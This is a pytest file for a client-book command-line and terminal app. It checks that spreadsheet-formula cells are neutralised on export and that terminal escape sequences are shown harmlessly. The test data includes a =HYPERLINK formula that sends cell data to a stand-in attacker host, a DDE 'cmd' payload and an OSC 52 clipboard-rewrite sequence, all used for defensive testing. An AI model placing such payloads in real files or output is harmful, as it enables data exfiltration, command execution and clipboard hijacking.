"""Output never runs code: a CSV cell is never a formula, and no text reaches the terminal as
a control sequence.

CSV: a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a CR as a formula
(`=HYPERLINK(...)` sends data away on a click). Export writes such a cell with a leading `'`
(the OWASP rule) and import takes the mark off, so export → import gives back every value.
An Excel workbook holds such a cell as text with Excel's own quote-prefix flag, never as
a formula (openpyxl would store "=…" as one).

Terminal: a name restored from another studio's book may hold ESC, BEL or a C1 CSI. OSC 52
(`ESC ] 52 ; c ; <base64> BEL`) rewrites the clipboard; CSI `2J` clears the screen. Whatever
path a text takes to the terminal (a card, a list, an import's error quoting a cell, click's
own error quoting an argument, a widget of the interface) shows it as harmless characters.
"""
from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from click.testing import CliRunner
from textual.widgets import DataTable

from clientbook.cli import cli
from clientbook.services.book import open_book
from clientbook.services.clients import NewClient, add_client
from clientbook.services.indexing import index_clients
from clientbook.services.visits import NewVisit, add_visit

TODAY = "2026-11-22"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SUM = "@SUM(1)"
OSC52 = "\x1b]52;c;aGk=\x07"  # "hi" onto the clipboard
CSI = "\x1b[2J"  # clear the screen
C1_CSI = "\x9b2J"  # the same, as one C1 character
HOSTILE = f"Ann{OSC52}{CSI}{C1_CSI}"
DANGEROUS = ("\x1b", "\x07", "\x9b", "\x9d", "\x90")


def run(*args, stdin: str | None = None):
    return CliRunner().invoke(cli, [str(a) for a in args], input=stdin)


def all_output(result) -> str:
    """stdout and stderr as the terminal would get them."""
    return result.stdout + result.stderr


def assert_harmless(text: str) -> None:
    assert text, "nothing was printed"
    for char in DANGEROUS:
        assert char not in text, f"{char!r} reached the terminal: {text!r}"


# CSV injection


def test_every_cell_a_spreadsheet_would_run_is_marked_and_unmarked():
    from clientbook.domain.cells import neutralise, unmark

    for cell in ("=1+1", "+7 916", "-2", "@SUM(1)", "\tx", "\rx", "'=x", "''@x", "'", "'quoted", "a=b", "",
                 "7 916", "Анна"):
        assert unmark(neutralise(cell)) == cell
        assert neutralise(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert [neutralise(c) for c in ("=1", "\tx", "\r=x", "'=x", "'x", "x")] == [
        "'=1", "'\tx", "'\r=x", "''=x", "'x", "x"]


def test_printable_shows_control_characters_and_keeps_lines():
    from clientbook.domain.text import printable

    assert printable("a\x1b]52;c;aGk=\x07b") == "a␛]52;c;aGk=␇b"
    assert printable("x\x9b2J\x7f") == "x\ufffd2J␡"
    assert printable("line one\n\tline two") == "line one\n\tline two"
    assert printable("Ёлкина [b]Анна[/b] 🙂") == "Ёлкина [b]Анна[/b] 🙂"


@pytest.fixture
def formula_book(book_path):
    book = open_book(book_path)
    client = add_client(book, NewClient(FORMULA, "-Smith", "+plus", phone="+7 916 123-45-67", notes=SUM,
                                        alerts="-latex!", source="'=already quoted",
                                        external_id="-7", email="x@example.com"))
    add_client(book, NewClient("Plain", "Ann", phone="8 916 000-00-02", notes="'quoted but harmless",
                                  external_id="P-1"))
    add_visit(book, client, NewVisit(datetime(2026, 11, 1, 11), notes="+1 bottle", formula="-2+3",
                                     materials="=cmd|' /C calc'!A0"), {}, today=date(2026, 11, 22))
    book.close()
    return book_path


def client_values(path) -> list[tuple]:
    book = open_book(path)
    try:
        return book.execute_sql(
            "SELECT external_id, first_name, last_name, patronymic, phone, email, notes, alerts, source "
            "FROM clients ORDER BY first_name").fetchall()
    finally:
        book.close()


def visit_values(path) -> list[tuple]:
    book = open_book(path)
    try:
        return book.execute_sql(
            "SELECT materials, notes, formula FROM visits ORDER BY id").fetchall()
    finally:
        book.close()


def test_export_marks_formula_cells_and_import_gives_the_values_back(formula_book, tmp_path):
    clients_csv, visits_csv = tmp_path / "clients.csv", tmp_path / "visits.csv"
    for kind, path in (("clients", clients_csv), ("visits", visits_csv)):
        result = run("export", "--db", formula_book, "--today", TODAY, "--kind", kind, "-o", path)
        assert result.exit_code == 0, result.output

    cells = {row["first_name"]: row for row in csv.DictReader(io.StringIO(clients_csv.read_text("utf-8")))}
    hostile = cells["'" + FORMULA]  # the raw cell, as a spreadsheet reads it
    assert hostile["notes"] == "'" + SUM
    assert hostile["last_name"] == "'-Smith"
    assert hostile["patronymic"] == "'+plus"
    assert hostile["phone"] == "'+79161234567"  # a phone too: every text cell, one rule
    assert hostile["alerts"] == "'-latex!"
    assert hostile["source"] == "''=already quoted"  # a mark of its own keeps its mark
    assert hostile["client_id"] == "'-7"
    plain = cells["Plain"]
    assert plain["notes"] == "'quoted but harmless"  # nothing to neutralise: left as written
    assert plain["phone"] == "'+79160000002"
    visit = next(csv.DictReader(io.StringIO(visits_csv.read_text("utf-8"))))
    assert (visit["materials"], visit["notes"], visit["formula"]) == ("'=cmd|' /C calc'!A0", "'+1 bottle", "'-2+3")
    for line in clients_csv.read_text("utf-8").splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell or cell[0] not in "=+-@\t\r", cell

    fresh = tmp_path / "fresh.db"
    for path in (clients_csv, visits_csv):
        result = run("import", path, "--db", fresh, "--today", TODAY)
        assert result.exit_code == 0, result.output
    assert client_values(fresh) == client_values(formula_book)
    assert visit_values(fresh) == visit_values(formula_book) == [
        ("=cmd|' /C calc'!A0", "+1 bottle", "-2+3")]


def test_an_excel_workbook_holds_no_formula_and_gives_the_values_back(formula_book, tmp_path):
    """openpyxl stores a text "=…" as a formula: the workbook's text cells are text, and the
    ones a spreadsheet would run carry Excel's own text flag (quotePrefix, what a typed "'"
    sets), so Excel shows the value and keeps it text when edited; a studio's own leading
    "'" keeps the CSV's mark, which import takes off. Import gives every value back."""
    import openpyxl

    path = tmp_path / "book.xlsx"
    result = run("export", "--db", formula_book, "--today", TODAY, "--format", "xlsx", "-o", path)
    assert result.exit_code == 0, result.output
    workbook = openpyxl.load_workbook(path)  # not read-only: the styles are wanted
    texts = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = cell.quotePrefix
    for value in (FORMULA, SUM, "-Smith", "+plus", "+79161234567", "-latex!", "-7",
                  "=cmd|' /C calc'!A0", "+1 bottle", "-2+3"):
        assert texts[value] is True, value  # shown as written, kept as text
    assert texts["''=already quoted"] is False  # a mark of its own keeps its mark, as in CSV
    assert texts["'quoted but harmless"] is False
    assert texts["+79160000002"] is True

    fresh = tmp_path / "fresh.db"
    for sheet in ("Clients", "Visits"):
        result = run("import", path, "--sheet", sheet, "--db", fresh, "--today", TODAY)
        assert result.exit_code == 0, result.output
    assert client_values(fresh) == client_values(formula_book)
    assert visit_values(fresh) == visit_values(formula_book)


def test_the_call_list_as_csv_is_no_formula_either(formula_book):
    book = open_book(formula_book)
    for month in (8, 9):  # two visits a month apart: due again by November
        add_visit(book, 1, NewVisit(datetime(2026, month, 1, 11), ("Nails",)), {"Nails": "nails"},
                  today=date(2026, 11, 22))
    book.close()
    result = run("calls", "--db", formula_book, "--today", TODAY, "--format", "csv")
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(result.output)))
    assert (row["external_id"], row["name"], row["phone"]) == ("'-7", f"'-Smith {FORMULA} +plus", "'+79161234567")


def test_a_spreadsheet_quoted_phone_imports_as_the_phone(book_path, tmp_path):
    """A hand-made file where Excel kept "'+7 916…" as text: the mark is not part of the number."""
    path = tmp_path / "list.csv"
    path.write_text("first_name,last_name,phone,notes\nZoe,Smith,'+7 916 555-00-01,'@home\n", encoding="utf-8")
    assert run("import", path, "--db", book_path, "--today", TODAY).exit_code == 0
    book = open_book(book_path)
    assert book.execute_sql("SELECT phone, notes FROM clients").fetchall() == [("+79165550001", "@home")]
    book.close()


# Terminal control sequences


@pytest.fixture
def hostile_book(book_path):
    """Ann's name and notes as a book restored from elsewhere may hold them (input strips controls)."""
    book = open_book(book_path)
    client = add_client(book, NewClient("Ann", "Hostile", phone="8 916 000-00-01"))
    add_visit(book, client, NewVisit(datetime(2026, 9, 1, 11), ("Nails",), price_cents=100000),
              {"Nails": "nails"}, today=date(2026, 11, 22))
    add_visit(book, client, NewVisit(datetime(2026, 10, 1, 11), ("Nails",), price_cents=100000),
              {"Nails": "nails"}, today=date(2026, 11, 22))
    book.execute_sql("UPDATE clients SET first_name = ?, notes = ?, alerts = ? WHERE id = ?",
                     (HOSTILE, f"note {OSC52}", f"alert {CSI}", client))
    index_clients(book, [client])
    book.close()
    return book_path


@pytest.mark.parametrize("command", [
    ("show", "1"),
    ("show", "1", "--format", "json"),
    ("search", "Ann"),
    ("search", "Ann", "--format", "json"),
    ("calls",),
    ("calls", "--format", "csv"),
    ("export",),
])
def test_a_stored_name_never_reaches_the_terminal_as_a_sequence(hostile_book, command):
    result = run(*command, "--db", hostile_book, "--today", TODAY)
    assert result.exit_code == 0, result.output
    assert_harmless(all_output(result))
    assert "Ann␛]52;c;aGk=␇" in all_output(result) or "Ann\\u001b]52" in all_output(result)


def test_an_import_error_quoting_a_cell_is_harmless(hostile_book, tmp_path):
    path = tmp_path / "list.csv"
    path.write_text(f"first_name,last_name,phone,birthday\nZoe,Smith,8 916 555-00-01,{OSC52}1990\n",
                    encoding="utf-8")
    result = run("import", path, "--dry-run", "--db", hostile_book, "--today", TODAY)
    assert_harmless(all_output(result))
    assert "␛]52;c;aGk=␇" in all_output(result)


def test_a_cli_error_quoting_an_argument_is_harmless(hostile_book, tmp_path):
    for args in (("show", CSI), ("show", f"ext:{OSC52}"), ("calls", "--format", OSC52),
                 ("import", tmp_path / f"missing{OSC52}.csv"), (f"no-such-command{OSC52}",)):
        result = run(*args, "--db", hostile_book, "--today", TODAY)
        assert result.exit_code != 0, result.output
        assert_harmless(all_output(result))


# The terminal interface


async def test_the_interface_shows_a_hostile_name_without_its_escape(hostile_book):
    from tests.ui.pilot import make_app, until

    async with make_app(hostile_book).run_test(size=(160, 40)) as pilot:
        table = await until(pilot, lambda: pilot.app.screen.query_one("#results", DataTable))
        await until(pilot, lambda: table.row_count == 1)
        cells = " ".join(str(cell) for cell in table.get_row_at(0))
        assert "Ann␛]52;c;aGk=␇" in cells
        assert_harmless(cells)


async def test_the_import_dialog_report_is_harmless(hostile_book, tmp_path):
    from textual.widgets import Input

    from tests.ui.pilot import make_app, shown, until

    path = tmp_path / "list.csv"
    path.write_text(f"first_name,last_name,phone,birthday\nZoe,Smith,8 916 555-00-01,{OSC52}1990\n",
                    encoding="utf-8")
    async with make_app(hostile_book).run_test(size=(160, 40)) as pilot:
        await pilot.press("ctrl+o")
        box = await until(pilot, lambda: pilot.app.screen.query_one("#import-path", Input))
        box.value = str(path)
        await pilot.press("enter")
        report = await until(pilot, lambda: "␛]52" in shown(pilot.app, "#import-result")
                             and shown(pilot.app, "#import-result"))
        assert_harmless(report)


async def test_a_notification_quoting_a_file_name_is_harmless(hostile_book, tmp_path):
    from textual.widgets import Input
    from textual.widgets._toast import Toast

    from tests.ui.pilot import make_app, shown, until

    path = tmp_path / f"list{OSC52}.csv"
    path.write_text("first_name,last_name,phone\nZoe,Smith,8 916 555-00-01\n", encoding="utf-8")
    async with make_app(hostile_book).run_test(size=(160, 40), notifications=True) as pilot:
        await pilot.press("ctrl+o")
        box = await until(pilot, lambda: pilot.app.screen.query_one("#import-path", Input))
        box.value = str(path)
        await pilot.press("enter")
        await until(pilot, lambda: "list␛]52" in shown(pilot.app, "#import-result"))
        await pilot.press("enter")
        said = await until(pilot, lambda: [str(toast.render()) for toast in pilot.app.screen.query(Toast)] or False)
        assert "list␛]52;c;aGk=␇.csv" in " ".join(said)
        assert_harmless(" ".join(said))
